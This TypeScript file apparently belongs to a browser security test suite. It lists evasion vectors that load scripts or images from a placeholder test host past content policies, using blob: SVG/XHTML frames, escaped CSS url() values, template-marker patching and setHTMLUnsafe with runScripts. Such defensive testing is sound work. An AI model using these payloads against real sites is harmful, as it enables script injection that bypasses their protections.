import {inGroup} from '../vector.js';

/** An element of this vector's own, and a style sheet with one rule for it, written as the engine is to read it. */
const RULE = (css: string): string =>
  `const e = make('div'); e.id = '{ID}'; e.style.cssText = 'width: 9px; height: 9px'; document.body.append(e); const c = new CSSStyleSheet(); document.adoptedStyleSheets.push(c); c.insertRule('#{ID} { background: ${css} }');`;
const FRAMED = (text: string, type: string): string =>
  `const f = make('iframe'); f.src = URL.createObjectURL(new Blob(['${text}'], {type: '${type}'})); document.body.append(f);`;

/** Chromium puts the content of such a template where the mark of its name is. */
const PATCH = (inside: string): string =>
  `<div><?marker name="{ID}"?></div><template for="{ID}">${inside}</template>`;
const PATCHES = `'htmlFor' in HTMLTemplateElement.prototype`;
/** Whether mark-up can be asked to run its scripts. */
const RUNS = `(() => { let asked; document.createElement('i').setHTMLUnsafe?.('', {get runScripts() { asked = true; return false; }}); return asked; })()`;
const HERE = `const e = make('div'); document.body.append(e);`;

/** What was found by asking what the tests of a thing try and the matrix does not, and every function what it reads of an object. */
export const EVASIONS_3 = [
  ...inGroup('realms', [
    {
      id: 'r-blob-svg',
      what: 'blob: frame that is a drawing',
      run: FRAMED(
        `<svg xmlns="http://www.w3.org/2000/svg"><script href="{T}/x.js"/></svg>`,
        'image/svg+xml',
      ),
    },
    {
      id: 'r-blob-xhtml',
      what: 'blob: frame that is XHTML',
      run: FRAMED(
        `<html xmlns="http://www.w3.org/1999/xhtml"><head><script src="{T}/x.js"></script></head></html>`,
        'application/xhtml+xml',
      ),
    },
    {
      id: 'r-blob-by-worker',
      what: 'blob: frame whose address a worker made',
      run: `const w = new Worker(blobUrl("postMessage(URL.createObjectURL(new Blob(['<script src={T}/x.js></scr' + 'ipt>'], {type: 'text/html'})))")); window.keptw = w; const f = make('iframe'); f.src = await new Promise((d) => { w.onmessage = (e) => d(e.data); }); document.body.append(f);`,
    },
    {
      id: 'r-blob-untyped',
      what: 'blob: frame that does not say what it is',
      run: FRAMED(`<!doctype html><script src="{T}/x.js"></script>`, ''),
    },
  ]),
  ...inGroup('subresources', [
    {
      id: 'c-escape-slashes',
      what: 'URL whose slashes are escaped',
      run: RULE(`url("\\\\2f\\\\2f ' + '{T}/i.svg'.slice(8) + '")`),
    },
    {
      id: 'c-escape-colon',
      what: 'URL whose colon is escaped',
      run: RULE(`url("https\\\\3a//' + '{T}/i.svg'.slice(8) + '")`),
    },
    {
      id: 'c-escape-host',
      what: 'host that begins with that of an allowed one, and goes on with an escape',
      run: RULE(`url("https://allowed.example\\\\2e {HOST}/v/{ID}/i.svg")`),
    },
    {
      id: 'c-escape-line',
      what: 'URL that goes on in the next line',
      run: RULE(`url("https:/\\\\\\n/' + '{T}/i.svg'.slice(8) + '")`),
    },
  ]),
  ...inGroup('static', [
    {
      id: 's-patch-script',
      what: 'template that is for a mark, with a script in it',
      body: PATCH('<script src="{T}/x.js"></script>'),
      needs: PATCHES,
    },
    {
      id: 's-patch-img',
      what: 'template that is for a mark, with an image in it',
      body: PATCH('<img src="{T}/i.svg" alt="">'),
      needs: PATCHES,
    },
  ]),
  ...inGroup('scripts', [
    {
      id: 'd-html-runs-scripts',
      what: 'setHTMLUnsafe that is asked to run scripts',
      run: `${HERE} e.setHTMLUnsafe('<script src="{T}/x.js"></scr' + 'ipt>', {runScripts: true});`,
      needs: RUNS,
    },
    {
      id: 'd-html-runs-inline',
      what: 'setHTMLUnsafe that is asked to run scripts, with a script that has one made',
      run: `${HERE} e.setHTMLUnsafe('<script>{ const s = document.createElement("script"); s.src = "{T}/x.js"; document.head.append(s); }</scr' + 'ipt>', {runScripts: true});`,
      needs: RUNS,
    },
    {
      id: 'd-patch-innerHTML',
      what: 'template that is for a mark, by innerHTML',
      run: `${HERE} e.innerHTML = '${PATCH('<img src="{T}/i.svg" alt="">')}';`,
      needs: PATCHES,
    },
    {
      id: 'd-patch-write',
      what: 'template that is for a mark, by document.write',
      run: `document.write('${PATCH(`<script src="{T}/x.js"></scr' + 'ipt>`)}');`,
      needs: PATCHES,
    },
    {
      id: 'c-patch-style',
      what: 'template that is for a mark in a style element of SVG',
      run: `${HERE} e.innerHTML = '<svg><style><?marker name="{ID}"?></style></svg><template for="{ID}">@import "{T}/x.css";</template>';`,
      needs: PATCHES,
    },
  ]),
];
